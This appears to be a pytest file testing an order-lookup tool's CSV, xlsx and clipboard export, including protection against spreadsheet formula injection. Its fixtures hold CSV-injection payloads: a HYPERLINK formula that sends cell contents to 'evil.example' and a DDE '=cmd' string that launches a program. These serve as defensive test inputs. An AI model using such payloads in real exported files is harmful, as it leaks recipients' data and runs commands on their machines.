"""Export of real lookups: CSV, .xlsx and clipboard text read back equal the results, formula-safe."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from msp_desk.api.client import MspClient
from msp_desk.api.models import Order
from msp_desk.bulk.engine import BulkLookup
from msp_desk.bulk.export import COLUMNS, clipboard_text, neutralise, save_csv, save_xlsx, write_csv
from msp_desk.bulk.results import LookupResult, Outcome
from tests.bulk.conftest import KEY, Sandbox
from tests.sandbox.conftest import direct_order

HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'
FORMULA_IDS = [HYPERLINK, "+31 6 1234 5678", "-2+3", "@SUM(A1:A9)", "\tpadded", "=1+1"]


@pytest.fixture(scope="module")
def results(sandbox: Sandbox) -> list[LookupResult]:
    from msp_desk.api.http import make_http_client

    sandbox.create_orders(["exp-eur"], currency="EUR", amount=1230)
    sandbox.create_orders(["exp-jpy"], currency="JPY", amount=1500)
    sandbox.create_orders(["exp-big"], currency="EUR", amount=10**11)
    sandbox.create_orders([i for i in FORMULA_IDS if i.strip() == i], currency="EUR", amount=5)
    declined = direct_order("exp-declined", card="4012001038488884")
    declined["gateway_info"]["flexible_3d"] = False
    assert sandbox.admin.post("orders", json=declined).json()["data"]["status"] == "declined"
    ids = ["exp-eur", "exp-missing", "exp-jpy", "exp-declined", "exp-big", *FORMULA_IDS, "exp-pending"]
    with make_http_client() as http:
        lookup = BulkLookup(MspClient(http, sandbox.server.base_url, KEY), ids[:-1], concurrency=4)
        lookup.start()
        assert lookup.wait(30)
        rows = lookup.results()
    return [*rows, LookupResult(len(rows), "exp-pending")]  # as a cancelled run leaves it


def expected(results: Sequence[LookupResult]) -> list[list[str]]:
    """What each row must say, worked out here rather than by the export code."""
    places = {"EUR": 2, "JPY": 0}
    rows = []
    for r in results:
        o = r.order
        if o is None:
            rows.append([neutralise(r.order_id), "", "", "", "", "", "", r.error or "not looked up"])
            continue
        assert o.amount is not None
        assert o.currency is not None
        assert o.created is not None
        amount = f"{o.amount / 10 ** places[o.currency]:.{places[o.currency]}f}"
        cells = [
            r.order_id,
            o.status,
            o.financial_status,
            amount,
            o.currency,
            str(o.created),
            o.reason or "",
            "",
        ]
        rows.append([neutralise(c or "") for c in cells])
    return rows


def test_the_rows_cover_what_the_export_must_show(results: list[LookupResult]) -> None:
    by_id = {r.order_id: r for r in results}
    assert by_id["exp-missing"].error == "not found (1006)"
    assert by_id["exp-pending"].outcome is Outcome.PENDING
    declined = by_id["exp-declined"].order
    assert declined is not None
    assert declined.reason


def test_csv_read_back_equals_the_results_in_input_order(results: list[LookupResult], tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    save_csv(results, path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel needs the mark to read UTF-8
    with path.open(encoding="utf-8-sig", newline="") as file:
        back = list(csv.reader(file))
    assert back[0] == list(COLUMNS)
    assert back[1:] == expected(results)
    assert back[1] == ["exp-eur", "initialized", "initialized", "12.30", "EUR", back[1][5], "", ""]
    assert back[3][3] == "1500"  # JPY has no decimals
    assert back[5][3] == "1000000000.00"  # exact: no float rounding, no exponent
    assert back[2][7] == "not found (1006)"
    assert back[-1][7] == "not looked up"
    assert datetime.fromisoformat(back[1][5])


def test_xlsx_read_back_equals_the_results(results: list[LookupResult], tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    save_xlsx(results, path)
    book = openpyxl.load_workbook(path)
    sheet = book.active
    assert sheet is not None
    back = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert back[0] == list(COLUMNS)
    for got, want, result in zip(back[1:], expected(results), results, strict=True):
        text = ["" if v is None else v for v in got]
        order = result.order
        if order is None:
            assert text == want
            continue
        assert text[:3] + text[4:5] + text[6:] == want[:3] + want[4:5] + want[6:]
        assert text[3] == pytest.approx(float(want[3]))
        assert text[5] == order.created
    eur, jpy = sheet.cell(2, 4), sheet.cell(4, 4)
    assert (eur.number_format, jpy.number_format) == ("0.00", "0")
    assert sheet.cell(2, 6).is_date


def test_clipboard_text_is_tab_separated_and_equals_the_results(results: list[LookupResult]) -> None:
    text = clipboard_text(results)
    assert "\r\n" not in text  # plain newlines, as a clipboard carries them
    back = list(csv.reader(io.StringIO(text), dialect=csv.excel_tab))
    assert back[0] == list(COLUMNS)
    assert back[1:] == expected(results)


def test_formulas_are_neutralised_in_every_format(results: list[LookupResult], tmp_path: Path) -> None:
    save_csv(results, tmp_path / "out.csv")
    save_xlsx(results, tmp_path / "out.xlsx")
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as file:
        csv_ids = [row[0] for row in csv.reader(file)]
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    xlsx_cells = [sheet.cell(row, 1) for row in range(1, sheet.max_row + 1)]
    tsv_ids = [line.split("\t")[0] for line in clipboard_text(results).splitlines()]
    for order_id in FORMULA_IDS:
        assert "'" + order_id in csv_ids
        assert "'" + order_id in [c.value for c in xlsx_cells]
    assert all(c.data_type == "s" for c in xlsx_cells)  # not one formula cell
    assert not [c for c in csv_ids + tsv_ids if c.startswith(("=", "+", "-", "@"))]
    assert "exp-eur" in csv_ids  # ordinary ids are left alone


def test_server_text_is_neutralised_too(tmp_path: Path) -> None:
    order = Order.model_validate(
        {
            "order_id": "A-1",
            "status": "-declined",
            "reason": "=cmd|' /C calc'!A0",
            "amount": 12345,
            "currency": "KWD",
        }
    )
    rows = [
        LookupResult(0, "A-1", Outcome.FOUND, order),
        LookupResult(1, "A-2", Outcome.FAILED, error="@boom"),
    ]
    out = io.StringIO()
    write_csv(rows, out)
    back = list(csv.reader(io.StringIO(out.getvalue())))
    assert back[1] == ["A-1", "'-declined", "", "12.345", "KWD", "", "'=cmd|' /C calc'!A0", ""]
    assert back[2][7] == "'@boom"


@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@a", "\t1", "\r1"])
def test_neutralise_each_dangerous_start(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert neutralise("a" + cell) == "a" + cell


def test_nothing_secret_reaches_the_files(results: list[LookupResult], tmp_path: Path) -> None:
    save_csv(results, tmp_path / "out.csv")
    save_xlsx(results, tmp_path / "out.xlsx")
    import zipfile

    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        xlsx_text = b"".join(archive.read(name) for name in archive.namelist())
    for content in ((tmp_path / "out.csv").read_bytes(), xlsx_text, clipboard_text(results).encode()):
        assert KEY.encode() not in content
        assert b"4012001038488884" not in content
        assert b"a@example.com" not in content  # customer data is not among the columns
